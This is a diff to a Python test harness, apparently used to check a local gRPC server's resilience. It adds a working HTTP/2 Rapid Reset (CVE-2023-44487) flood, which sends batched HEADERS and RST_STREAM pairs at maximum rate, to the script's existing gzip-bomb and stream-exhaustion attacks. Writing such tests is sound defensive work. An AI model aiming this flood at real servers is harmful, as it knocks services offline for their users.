@@ -16,6 +16,14 @@ the client side can refuse, compress or cap on the attacker's behalf.
     closed), then `ready`, and holds the connection open
     for --hold seconds (the test counts upperd's threads meanwhile, then
     kills it).
+  rapid_reset: CVE-2023-44487 on one connection: HEADERS of --path (no
+    token unless --token) immediately followed by RST_STREAM(CANCEL), on
+    stream after stream, as fast as the socket takes them, until --count
+    pairs are sent or --seconds have passed (whichever comes first); frames
+    the server sends are read between batches (its SETTINGS acknowledged,
+    PINGs answered). Prints `ready` once the preface is sent, then at the end
+    `pairs=<n> frames=<2n> seconds=<t> rate=<pairs/s> goaway=<code|none>
+    closed=<bool>` (closed: the server closed the connection or reset it).
 
 Every wait is bounded by --timeout. Meant to run under `ulimit -v`.
 """
@@ -30,6 +38,7 @@ import zlib
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = (
     0, 1, 3, 4, 6, 7, 8)
 END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+CANCEL = 0x8
 REFUSED_STREAM = 0x7
 SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
 SETTINGS_INITIAL_WINDOW_SIZE = 0x4
@@ -201,14 +210,17 @@ class Connection:
             elif stream in self.stream_windows:
                 self.stream_windows[stream] += inc
 
-    def headers(self, stream, path, token, extra=()):
+    def header_block(self, path, token, extra=()):
         fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
                   (":authority", "127.0.0.1"),
                   ("content-type", "application/grpc"), ("te", "trailers")]
         fields += list(extra)
         if token:
             fields.append(("authorization", "Bearer " + token))
-        block = b"".join(literal(n, v) for n, v in fields)
+        return b"".join(literal(n, v) for n, v in fields)
+
+    def headers(self, stream, path, token, extra=()):
+        block = self.header_block(path, token, extra)
         self.stream_windows[stream] = self.initial_window
         self.sock.sendall(frame(HEADERS, END_HEADERS, stream, block))
 
@@ -341,9 +353,81 @@ def streams(args):
     time.sleep(args.hold)  # the test kills us sooner when done
 
 
+def drain(conn, on_goaway):
+    """Reads what the server sent without waiting, handling each frame;
+    True if it closed the connection."""
+    for _ in range(64):  # bounded: the attack goes on meanwhile
+        try:
+            if not select.select([conn.sock], [], [], 0)[0]:
+                break
+            chunk = conn.sock.recv(65536)
+        except (ConnectionError, OSError):
+            return True
+        if not chunk:
+            return True
+        conn.buf += chunk
+    while len(conn.buf) >= 9 and len(conn.buf) >= 9 + int.from_bytes(
+            conn.buf[:3], "big"):
+        f = conn.read_frame(0)  # complete in the buffer: no wait
+        if f[0] == GOAWAY:
+            on_goaway(struct.unpack(">I", f[3][4:8])[0])
+    return False
+
+
+def rapid_reset(args):
+    conn = Connection(args.port, args.timeout)
+    print("ready", flush=True)
+    # Literal fields without indexing: every HEADERS block is the same bytes,
+    # so a batch is one template with the stream ids patched in.
+    pair = (frame(HEADERS, END_HEADERS, 0, conn.header_block(args.path,
+                                                             args.token)) +
+            frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL)))
+    headers_len = len(pair) - 13  # the RST_STREAM frame is 9 + 4 bytes
+    batch_pairs = 64
+    start = time.monotonic()
+    end = start + args.seconds
+    conn.deadline = end + args.timeout
+    sent, stream, goaway, closed = 0, 1, [], False
+    while sent < args.count and not closed and time.monotonic() < end:
+        n = min(batch_pairs, args.count - sent)
+        if stream + 2 * n > 0x7FFFFFFF:
+            break  # out of stream ids: a real attacker reconnects
+        batch = bytearray(pair * n)
+        for i in range(n):
+            sid = struct.pack(">I", stream + 2 * i)
+            at = i * len(pair)
+            batch[at + 5:at + 9] = sid
+            batch[at + headers_len + 5:at + headers_len + 9] = sid
+        try:
+            conn.sock.sendall(batch)
+        except (ConnectionError, socket.timeout):
+            closed = True
+            break
+        sent += n
+        stream += 2 * n
+        closed = drain(conn, lambda code: goaway.append(code)) or closed
+    elapsed = time.monotonic() - start
+    # A GOAWAY or close that follows the last batch.
+    linger = time.monotonic() + 1.0
+    while not closed and time.monotonic() < linger:
+        try:
+            f = conn.read_frame(linger - time.monotonic())
+        except (ConnectionError, OSError):
+            closed = True
+            break
+        if f is None:
+            closed = conn.eof
+            break
+        if f[0] == GOAWAY:
+            goaway.append(struct.unpack(">I", f[3][4:8])[0])
+    print("pairs=%d frames=%d seconds=%.3f rate=%.0f goaway=%s closed=%s" % (
+        sent, 2 * sent, elapsed, sent / elapsed if elapsed > 0 else 0,
+        goaway[0] if goaway else "none", closed), flush=True)
+
+
 def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("attack", choices=["gzip_bomb", "streams"])
+    parser.add_argument("attack", choices=["gzip_bomb", "streams", "rapid_reset"])
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--token", default="")
     parser.add_argument("--path",
@@ -357,10 +441,13 @@ def main():
     parser.add_argument("--with_message", action="store_true",
                         help="streams: send an empty message on each stream "
                         "(no END_STREAM), as a server-streaming call needs")
+    parser.add_argument("--seconds", type=float, default=10.0,
+                        help="rapid_reset: stop after this long")
     parser.add_argument("--ack_first", action="store_true",
                         help="open streams only once SETTINGS are exchanged")
     args = parser.parse_args()
-    gzip_bomb(args) if args.attack == "gzip_bomb" else streams(args)
+    {"gzip_bomb": gzip_bomb, "streams": streams,
+     "rapid_reset": rapid_reset}[args.attack](args)
 
 
 if __name__ == "__main__":
